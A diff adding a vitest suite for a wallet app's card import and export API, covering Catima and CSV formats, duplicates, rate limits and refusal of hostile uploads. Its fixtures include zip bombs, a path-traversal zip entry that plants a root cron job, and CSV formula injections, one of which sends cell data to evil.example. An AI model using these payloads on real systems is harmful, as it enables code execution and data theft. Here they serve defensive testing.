@@ -1,0 +1,539 @@
+import { randomUUID } from "node:crypto";
+import http from "node:http";
+import { strFromU8, unzipSync } from "fflate";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { uniqueClientAddress } from "@/tests/api/client";
+import { gtinCheckDigit } from "@/lib/scan/check-digit";
+import type { Card, ImportCardsResponse } from "@/lib/scan/schemas";
+import { startServer, type RunningServer } from "@/tests/support/server";
+import { catimaFixture, patchDirectory, zipOf } from "@/tests/support/zip-files";
+
+// Importing and exporting the wallet (docs/import-export.md) over HTTP, on a
+// server of its own so an export holds exactly the cards these tests made,
+// and the hostile files and the stranger's limits of
+// docs/decisions/007-wallet-import-export.md. The server trusts a proxy on
+// loopback: X-Forwarded-For names an anonymous client, none is this machine.
+
+const ANON_LIMIT = 10;
+let server: RunningServer;
+beforeAll(async () => {
+  server = await startServer({ TRUSTED_PROXIES: "loopback", ANON_RATE_LIMIT: String(ANON_LIMIT) });
+});
+afterAll(() => server.stop());
+
+const unique = (label: string) => `${label} ${randomUUID().slice(0, 8)}`;
+const ean13 = (n: number) => {
+  const data = `560${String(n).padStart(9, "0")}`;
+  return `${data}${gtinCheckDigit(data)}`;
+};
+
+type Answer<T> = { status: number; data: T; headers: Headers };
+
+async function call<T = Record<string, unknown>>(path: string, init: RequestInit = {}): Promise<Answer<T>> {
+  const response = await fetch(`${server.url}${path}`, init);
+  const text = await response.text();
+  let data: unknown = null;
+  try {
+    data = JSON.parse(text);
+  } catch {
+    data = null;
+  }
+  return { status: response.status, data: data as T, headers: response.headers };
+}
+
+function importFile(
+  file: Uint8Array | string,
+  {
+    name = "cards.csv",
+    person,
+    dryRun = false,
+    headers = {},
+  }: { name?: string; person?: string; dryRun?: boolean; headers?: Record<string, string> } = {},
+) {
+  const form = new FormData();
+  form.set("file", new Blob([typeof file === "string" ? file : new Uint8Array(file)]), name);
+  if (person !== undefined) form.set("person", person);
+  return call<ImportCardsResponse>(`/base-scan/api/import${dryRun ? "?dry_run=1" : ""}`, {
+    method: "POST",
+    body: form,
+    headers,
+  });
+}
+
+/** A request that announces `headers` and sends `start`, on a connection of its own: its status and error code. */
+function upload(headers: Record<string, string>, start: string): Promise<{ status: number; code: unknown }> {
+  return new Promise((resolve, reject) => {
+    const request = http.request(`${server.url}/base-scan/api/import`, { method: "POST", headers, agent: false });
+    request.on("response", (response) => {
+      let text = "";
+      response.on("data", (chunk: Buffer) => (text += chunk.toString()));
+      response.on("end", () => {
+        request.destroy();
+        resolve({
+          status: response.statusCode ?? 0,
+          code: (JSON.parse(text) as { error?: { code?: unknown } }).error?.code,
+        });
+      });
+    });
+    request.on("error", reject);
+    request.write(start);
+  });
+}
+
+async function allCards(): Promise<Card[]> {
+  const cards: Card[] = [];
+  let cursor: string | null = null;
+  do {
+    const page: Answer<{ cards: Card[]; next: string | null }> = await call(
+      `/base-scan/api/cards?limit=500${cursor ? `&cursor=${cursor}` : ""}`,
+    );
+    expect(page.status).toBe(200);
+    cards.push(...page.data.cards);
+    cursor = page.data.next;
+  } while (cursor);
+  return cards;
+}
+
+const cardsOf = async (person: string) => (await allCards()).filter((card) => card.person_name === person);
+
+const comparable = (card: Card) => ({
+  store_name: card.store_name,
+  person_name: card.person_name,
+  card_value: card.card_value,
+  card_format: card.card_format,
+  label: card.label,
+});
+
+async function deleteCard(card: Card): Promise<void> {
+  const { status } = await call(`/base-scan/api/cards/${card.id}/delete`, { method: "POST" });
+  expect(status).toBe(200);
+}
+
+async function addCard(store: string, person: string, value: string, format: string, label = ""): Promise<Card> {
+  const created = await call<{ store_id: number }>("/base-scan/api/stores", {
+    method: "POST",
+    headers: { "content-type": "application/json" },
+    body: JSON.stringify({ name: store }),
+  });
+  const { status, data } = await call<{ card: Card }>(`/base-scan/api/stores/${created.data.store_id}/cards`, {
+    method: "POST",
+    headers: { "content-type": "application/json" },
+    body: JSON.stringify({ card_value: value, card_format: format, label, person_name: person }),
+  });
+  expect(status).toBe(200);
+  return data.card;
+}
+
+// Catima's own fixture, as cards: the barcode holds `barcodeid` where there is
+// one, a card without a barcode type is drawn as its number looks (Code 128).
+const CATIMA_CARDS: [number, string, string, string, string][] = [
+  [9, "Pharmacy", "dhshsvshs", "code_128", ""],
+  [10, "Card 1", "5432", "qr_code", "Note 1 · 1234"],
+  [11, "cheese", "Käseschnitte", "aztec", ""],
+  [12, "Clothes Store", "a", "code_128", "Note about store"],
+  [13, "Department Store", "A", "code_128", ""],
+  [14, "Grocery Store", "dhd", "code_128", "Multiline note about grocery store"],
+  [17, "Restaurant", "23456", "code_128", "Note about restaurant here · 98765432"],
+  [18, "Shoe Store", "-5317", "aztec", "a"],
+];
+const catimaCards = (person: string) =>
+  CATIMA_CARDS.map(([line, store_name, card_value, card_format, label]) => ({
+    line,
+    store_name,
+    person_name: person,
+    card_value,
+    card_format,
+    label,
+  }));
+
+const catimaZip = () =>
+  zipOf({ "catima.csv": catimaFixture("catima_v2.csv"), "card_1_front.png": new Uint8Array(2048).fill(7) });
+
+describe("POST /base-scan/api/import, a Catima export", () => {
+  it("previews every card of Catima's fixture in a dry run and writes nothing", async () => {
+    const person = unique("Ana");
+    const { status, data } = await importFile(catimaZip(), { name: "catima.zip", person, dryRun: true });
+    expect(status).toBe(200);
+    expect(data).toEqual({ ok: true, dry_run: true, add: catimaCards(person), duplicates: [], errors: [] });
+    expect(await cardsOf(person)).toEqual([]);
+  });
+
+  it("imports them all, then finds them all duplicates the second time", async () => {
+    const person = unique("Ana");
+    const first = await importFile(catimaZip(), { name: "catima.zip", person });
+    expect(first.status).toBe(200);
+    expect(first.data).toEqual({ ok: true, dry_run: false, add: catimaCards(person), duplicates: [], errors: [] });
+    const stored = await cardsOf(person);
+    expect(stored.map(comparable).sort(byStore)).toEqual(
+      catimaCards(person)
+        .map((card) => comparable(card as unknown as Card))
+        .sort(byStore),
+    );
+
+    const again = await importFile(catimaZip(), { name: "catima.zip", person });
+    expect(again.data).toMatchObject({ add: [], duplicates: catimaCards(person), errors: [] });
+    expect(await cardsOf(person)).toHaveLength(8);
+  });
+
+  it("reads the bare catima.csv, and version 1", async () => {
+    const person = unique("Rui");
+    const bare = await importFile(catimaFixture("catima_v2.csv"), { name: "catima.csv", person, dryRun: true });
+    expect(bare.data.add).toEqual(catimaCards(person));
+    const v1 = await importFile(catimaFixture("catima_v1_starred_field.csv"), { person, dryRun: true });
+    expect(v1.data.add).toEqual([
+      { line: 2, store_name: "store", person_name: person, card_value: "12345", card_format: "aztec", label: "note" },
+    ]);
+  });
+
+  it("lists every card as an error when no one is named, and writes none", async () => {
+    const { status, data } = await importFile(catimaZip(), { name: "catima.zip" });
+    expect(status).toBe(200);
+    expect(data.add).toEqual([]);
+    expect(data.errors).toHaveLength(8);
+    expect(new Set(data.errors.map((row) => row.reason))).toEqual(
+      new Set(["No person: choose whose cards these are."]),
+    );
+  });
+});
+
+const byStore = (a: { store_name: string; card_value: string }, b: { store_name: string; card_value: string }) =>
+  a.store_name.localeCompare(b.store_name) || a.card_value.localeCompare(b.card_value);
+
+describe("POST /base-scan/api/import, the wallet CSV", () => {
+  it("adds, skips duplicates (in the wallet and in the file) and explains what it cannot read", async () => {
+    const person = unique("Marta");
+    const store = unique("Lidl");
+    await addCard(store, person, ean13(1), "ean_13");
+    const csv = [
+      "store,number,format,label,person",
+      `${store.toUpperCase()},${ean13(1)},EAN_13,,${person}`, // already in the wallet: the store's name in another case
+      `${store},${ean13(2)},,Família,${person}`, // the format is guessed: EAN-13
+      `${store},${ean13(2)},ean13,,${person}`, // the same card twice in the file
+      `${store},5601234567891,EAN-13,,${person}`, // a wrong check digit
+      `${store},QR-77,qr,,`, // no person in the row: the field's
+      `,123,,,${person}`, // no store
+    ].join("\r\n");
+    const { status, data } = await importFile(csv, { person });
+    expect(status).toBe(200);
+    const row = (line: number, card_value: string, card_format: string, label = "") => ({
+      line,
+      store_name: store,
+      person_name: person,
+      card_value,
+      card_format,
+      label,
+    });
+    expect(data).toEqual({
+      ok: true,
+      dry_run: false,
+      add: [row(3, ean13(2), "ean_13", "Família"), row(6, "QR-77", "qr_code")],
+      duplicates: [{ ...row(2, ean13(1), "ean_13"), store_name: store.toUpperCase() }, row(4, ean13(2), "ean_13")],
+      errors: [
+        {
+          line: 5,
+          store_name: store,
+          card_value: "5601234567891",
+          reason: "This number cannot be drawn as EAN-13: Incorrect EAN-13 check digit provided.",
+        },
+        { line: 7, store_name: null, card_value: "123", reason: "The store must not be empty." },
+      ],
+    });
+    const stored = await cardsOf(person);
+    expect(stored.map((card) => card.card_value).sort()).toEqual([ean13(1), ean13(2), "QR-77"].sort());
+    // One store, found by its name in any case.
+    expect(new Set(stored.map((card) => card.store_id)).size).toBe(1);
+  });
+});
+
+describe("export, and import back", () => {
+  it("round-trips the whole wallet through a Catima export: who owns each card comes back from its group", async () => {
+    const ana = unique("Ana");
+    const rui = unique("Rui");
+    await addCard(unique("Continente"), ana, ean13(3), "ean_13", "Família");
+    await addCard(unique("Pingo Doce"), rui, "CLUB-000-4417", "code_128");
+    await addCard(unique("Worten"), rui, "https://club.example.pt/c/8842?n=João", "qr_code", '=HYPERLINK("x")');
+    await addCard(unique("IKEA"), ana, "-5317", "aztec");
+    await addCard(unique("Fnac"), ana, "40156", "codabar", "@home");
+    const before = (await allCards()).map(comparable).sort(byStore);
+
+    const exported = await fetch(`${server.url}/base-scan/api/export?format=catima`);
+    expect(exported.status).toBe(200);
+    expect(exported.headers.get("content-type")).toBe("application/zip");
+    expect(exported.headers.get("content-disposition")).toMatch(/^attachment; filename="labs-wallet-.*-catima\.zip"$/);
+    const zip = new Uint8Array(await exported.arrayBuffer());
+    const entries = unzipSync(zip);
+    expect(Object.keys(entries)).toEqual(["catima.csv"]);
+    const csv = strFromU8(entries["catima.csv"]!);
+    expect(csv).toContain(`'=HYPERLINK(""x"")`);
+    expect(csv).toContain(",'@home,");
+
+    for (const card of await allCards()) await deleteCard(card);
+    expect(await allCards()).toEqual([]);
+
+    // No person named: each card's one group is its person.
+    const { status, data } = await importFile(zip, { name: "catima.zip" });
+    expect(status).toBe(200);
+    expect(data.errors).toEqual([]);
+    expect(data.add).toHaveLength(before.length);
+    expect((await allCards()).map(comparable).sort(byStore)).toEqual(before);
+  });
+
+  it("writes Catima's layout version 2 exactly: sections, columns, type names, links", async () => {
+    const person = unique("Zé");
+    await addCard(unique("Auchan"), person, ean13(4), "ean_13", "Cartão");
+    const zip = new Uint8Array(await (await fetch(`${server.url}/base-scan/api/export?format=catima`)).arrayBuffer());
+    const csv = strFromU8(unzipSync(zip)["catima.csv"]!);
+    expect(csv.endsWith("\r\n")).toBe(true);
+    const [version, groups, cards, links, ...rest] = csv.slice(0, -2).split("\r\n\r\n");
+    expect(rest).toEqual([]);
+    expect(version).toBe("2");
+    const groupNames = groups!.split("\r\n");
+    expect(groupNames[0]).toBe("_id");
+    expect(groupNames).toContain(person);
+    const cardLines = cards!.split("\r\n");
+    expect(cardLines[0]).toBe(
+      "_id,store,note,validfrom,expiry,balance,balancetype,cardid,barcodeid,barcodetype,barcodeencoding,headercolor,starstatus,lastused,archive",
+    );
+    const mine = cardLines.find((line) => line.includes(ean13(4)))!;
+    expect(mine).toMatch(new RegExp(`^\\d+,Auchan [0-9a-f]{8},Cartão,,,0,,${ean13(4)},,EAN_13,,,0,0,0$`));
+    const linkLines = links!.split("\r\n");
+    expect(linkLines[0]).toBe("cardId,groupId");
+    expect(linkLines).toContain(`${mine.split(",")[0]},${person}`);
+    // Every card is in exactly one listed group.
+    const ids = cardLines.slice(1).map((line) => line.split(",")[0]);
+    const linked = linkLines.slice(1).map((line) => line.split(","));
+    expect(linked.map(([id]) => id).sort()).toEqual([...ids].sort());
+    for (const [, group] of linked) expect(groupNames).toContain(group);
+  });
+
+  it("round-trips through the CSV export, with formula cells neutralised", async () => {
+    const person = unique("Inês");
+    await addCard(unique("Decathlon"), person, "DEC-1", "code_39", "+cmd|' /C calc'!A0");
+    const before = (await cardsOf(person)).map(comparable);
+
+    const exported = await fetch(`${server.url}/base-scan/api/export?format=csv`);
+    expect(exported.status).toBe(200);
+    expect(exported.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+    const bytes = new Uint8Array(await exported.arrayBuffer());
+    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
+    expect(text.startsWith("\uFEFFstore,number,format,label,person\r\n")).toBe(true);
+    expect(text).toContain(`,DEC-1,code_39,'+cmd|' /C calc'!A0,${person}\r\n`);
+
+    for (const card of await cardsOf(person)) await deleteCard(card);
+    const { data } = await importFile(bytes, { name: "wallet.csv" });
+    expect(data.errors).toEqual([]);
+    expect(await cardsOf(person).then((cards) => cards.map(comparable))).toEqual(before);
+    // Everything else was already there.
+    expect(data.add).toHaveLength(1);
+  });
+
+  it("refuses an unknown export format", async () => {
+    const { status, data } = await call("/base-scan/api/export?format=xlsx");
+    expect(status).toBe(400);
+    expect(data).toMatchObject({ ok: false, error: { code: "validation_failed" } });
+  });
+});
+
+describe("hostile files are refused whole, and nothing is written", () => {
+  const person = unique("Target");
+  const afterwards = async () => expect(await cardsOf(person)).toEqual([]);
+
+  it("answers 413 for a file over 20 MiB, declared or streamed, before reading it", async () => {
+    // 200 MiB announced, a few bytes sent: the answer cannot wait for the body.
+    const declared = await upload(
+      { "content-type": "multipart/form-data; boundary=x", "content-length": String(200 * 1024 * 1024) },
+      "--x\r\n",
+    );
+    expect(declared).toMatchObject({ status: 413, code: "payload_too_large" });
+
+    // No Content-Length: counted while it streams, and answered long before 40 MiB.
+    const boundary = "labs-boundary";
+    let sent = 0;
+    const body = new ReadableStream<Uint8Array>({
+      start(controller) {
+        controller.enqueue(
+          new TextEncoder().encode(
+            `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n\r\n`,
+          ),
+        );
+      },
+      pull(controller) {
+        if (sent >= 40 * 1024 * 1024) return controller.close();
+        sent += 256 * 1024;
+        controller.enqueue(new Uint8Array(256 * 1024).fill(65));
+      },
+    });
+    const response = await fetch(`${server.url}/base-scan/api/import`, {
+      method: "POST",
+      headers: { "content-type": `multipart/form-data; boundary=${boundary}` },
+      body,
+      duplex: "half",
+    } as RequestInit);
+    const streamed = {
+      status: response.status,
+      code: ((await response.json()) as { error: { code: string } }).error.code,
+    };
+    expect(streamed).toMatchObject({ status: 413, code: "payload_too_large" });
+    expect(sent).toBeLessThan(40 * 1024 * 1024);
+    await afterwards();
+  });
+
+  it.each([
+    [
+      "a zip bomb",
+      () => zipOf({ "catima.csv": new Uint8Array(50 * 1024 * 1024) }),
+      413,
+      "payload_too_large",
+      /catima\.csv inside the zip is larger than/,
+    ],
+    [
+      "a zip bomb that declares a small size",
+      () => patchDirectory(zipOf({ "catima.csv": new Uint8Array(50 * 1024 * 1024) }), "catima.csv", { size: 900 }),
+      413,
+      "payload_too_large",
+      /inflates to more than the zip says/,
+    ],
+    [
+      "a path traversal name",
+      () => zipOf({ "catima.csv": catimaFixture("catima_v2.csv"), "../../etc/cron.d/x": "* * * * * root sh" }),
+      400,
+      "validation_failed",
+      /points outside it/,
+    ],
+    [
+      "a password-protected Catima export",
+      () =>
+        patchDirectory(zipOf({ "catima.csv": catimaFixture("catima_v2.csv") }), "catima.csv", { method: 99, flags: 1 }),
+      400,
+      "validation_failed",
+      /protected by a password\. Export again from Catima without a password\./,
+    ],
+    [
+      "a formula cell",
+      () => `store,number\nLidl,${ean13(5)}\n"=HYPERLINK(""http://evil.example/?""&A1,""Win"")",1\n`,
+      400,
+      "validation_failed",
+      /Line 3, column store: .* is a spreadsheet formula/,
+    ],
+    ["wrong columns", () => "name,card,owner\nLidl,1,Ana\n", 400, "validation_failed", /columns Labs does not know/],
+    [
+      "a picture",
+      () => new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0xff, 0xfe]),
+      415,
+      "unsupported_media_type",
+      /not a Catima export/,
+    ],
+  ])("refuses %s", async (_name, make, status, code, message) => {
+    const { status: answered, data } = await importFile(make(), { name: "upload", person });
+    expect(answered).toBe(status);
+    expect(data).toMatchObject({ ok: false, error: { code, message: expect.stringMatching(message) } });
+    await afterwards();
+  });
+
+  it("takes only multipart with one file in the field file", async () => {
+    const json = await call("/base-scan/api/import", {
+      method: "POST",
+      headers: { "content-type": "application/json" },
+      body: JSON.stringify({ file: "x" }),
+    });
+    expect(json.status).toBe(415);
+
+    const none = new FormData();
+    none.set("person", person);
+    expect((await call("/base-scan/api/import", { method: "POST", body: none })).data).toMatchObject({
+      error: { code: "validation_failed", issues: [{ path: "file" }] },
+    });
+
+    const wrongField = new FormData();
+    wrongField.set("attachments", new Blob(["store,number\n"]), "a.csv");
+    expect((await call("/base-scan/api/import", { method: "POST", body: wrongField })).status).toBe(400);
+
+    const longName = await importFile(`store,number\nLidl,${ean13(8)}\n`, { person: "x".repeat(121) });
+    expect(longName.status).toBe(400);
+    expect(longName.data).toMatchObject({
+      error: { code: "validation_failed", issues: [{ path: "person", message: "must be at most 120 characters" }] },
+    });
+
+    const two = new FormData();
+    two.append("file", new Blob(["store,number\n"]), "a.csv");
+    two.append("file", new Blob(["store,number\n"]), "b.csv");
+    expect((await call("/base-scan/api/import", { method: "POST", body: two })).status).toBe(413);
+  });
+
+  it("refuses a cross-site upload", async () => {
+    const { status } = await importFile(`store,number\nLidl,${ean13(6)}\n`, {
+      person,
+      headers: { origin: "https://evil.example", "sec-fetch-site": "cross-site" },
+    });
+    expect(status).toBe(403);
+    await afterwards();
+  });
+});
+
+describe("a stranger's import (docs/decisions/007-wallet-import-export.md)", () => {
+  const csvOf = (person: string, count: number, from = 100) =>
+    [
+      "store,number,person",
+      ...Array.from({ length: count }, (_, i) => `Stranger Mart,${ean13(from + i)},${person}`),
+    ].join("\n");
+
+  it(`holds at most ANON_RATE_LIMIT (${ANON_LIMIT}) cards per file, even in a dry run`, async () => {
+    const person = unique("Stranger");
+    const client = { "x-forwarded-for": uniqueClientAddress() };
+    for (const dryRun of [true, false]) {
+      const { status, data } = await importFile(csvOf(person, ANON_LIMIT + 1), { dryRun, headers: client });
+      expect(status).toBe(413);
+      expect(data).toMatchObject({
+        error: { code: "payload_too_large", message: expect.stringMatching(/at most 10\. Pair this device/) },
+      });
+    }
+    expect(await cardsOf(person)).toEqual([]);
+  });
+
+  it("pays one write per card added: a full file empties the bucket", async () => {
+    const person = unique("Stranger");
+    const client = { "x-forwarded-for": uniqueClientAddress() };
+    const { status, data } = await importFile(csvOf(person, ANON_LIMIT), { headers: client });
+    expect(status).toBe(200);
+    expect(data.add).toHaveLength(ANON_LIMIT);
+    const next = await call("/base-scan/api/stores", {
+      method: "POST",
+      headers: { ...client, "content-type": "application/json" },
+      body: JSON.stringify({ name: "One more" }),
+    });
+    expect(next.status).toBe(429);
+  });
+
+  it("refuses an import the bucket cannot pay for whole, writes none of it, and still takes the next scan", async () => {
+    const person = unique("Stranger");
+    const client = { "x-forwarded-for": uniqueClientAddress() };
+    // Three writes spent: seven tokens left, and the import's request takes one of them.
+    for (let i = 0; i < 3; i++) {
+      const spent = await call("/base-scan/api/stores", {
+        method: "POST",
+        headers: { ...client, "content-type": "application/json" },
+        body: JSON.stringify({ name: unique("Spent") }),
+      });
+      expect(spent.status).toBe(200);
+    }
+    const { status, data, headers } = await importFile(csvOf(person, ANON_LIMIT), { headers: client });
+    expect(status).toBe(429);
+    expect(data).toMatchObject({ ok: false, error: { code: "rate_limited" } });
+    expect(Number(headers.get("retry-after"))).toBeGreaterThanOrEqual(1);
+    expect(await cardsOf(person)).toEqual([]);
+
+    const scan = await call("/base-scan/api/scan", {
+      method: "POST",
+      headers: { ...client, "content-type": "application/json" },
+      body: JSON.stringify({ value: ean13(7) }),
+    });
+    expect(scan.status).toBe(200);
+  });
+
+  it("lets the household (this machine) import more than a stranger may", async () => {
+    const person = unique("Household");
+    const { status, data } = await importFile(csvOf(person, 120, 1000));
+    expect(status).toBe(200);
+    expect(data.add).toHaveLength(120);
+  });
+});
